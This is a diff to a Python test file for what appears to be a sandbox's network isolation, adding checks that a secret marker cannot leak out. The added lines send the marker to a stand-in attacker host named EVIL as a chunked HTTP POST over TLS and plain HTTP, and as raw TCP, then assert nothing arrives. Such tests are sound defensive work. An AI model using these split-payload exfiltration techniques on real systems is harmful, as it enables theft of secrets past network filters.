@@ -12,7 +12,7 @@ from typing import Any
 
 import pytest
 from hostile_kit import host_pids, runtime
-from net_kit import EVIL, GOOD, Rung, attempt, decisions, files_with, tcp
+from net_kit import EVIL, GOOD, Rung, attempt, decisions, files_with, get, tcp
 
 from netkit import Internet
 from sloplet import Network, Sandbox, Secret
@@ -219,8 +219,14 @@ def test_s01_only_where_it_belongs(box: Sandbox, net: Internet) -> None:
     ]
     for number, result in enumerate(refused):
         assert not result.ok, f"{number}: {result.stdout}"
+    chunks = f"{half:x}\r\n{mark[:half]}\r\n{len(mark) - half:x}\r\n{mark[half:]}\r\n0\r\n\r\n"
+    pieces = get(EVIL, "/", "POST", "Transfer-Encoding: chunked") + chunks
     for outcome in attempt(
-        box, tcp(EVIL, 7, ("\x01" + mark, None), wait=5), tcp(EVIL, 7, ("\x01" + mark[:half], None), wait=1)
+        box,
+        tcp(EVIL, 443, (pieces, None), tls=EVIL),
+        tcp(EVIL, 80, (pieces, None)),
+        tcp(EVIL, 7, ("\x01" + mark, None), wait=5),
+        tcp(EVIL, 7, ("\x01" + mark[:half], None), wait=1),
     ).outcomes:
         assert mark not in outcome.data
     assert net.heard(VALUE) == []
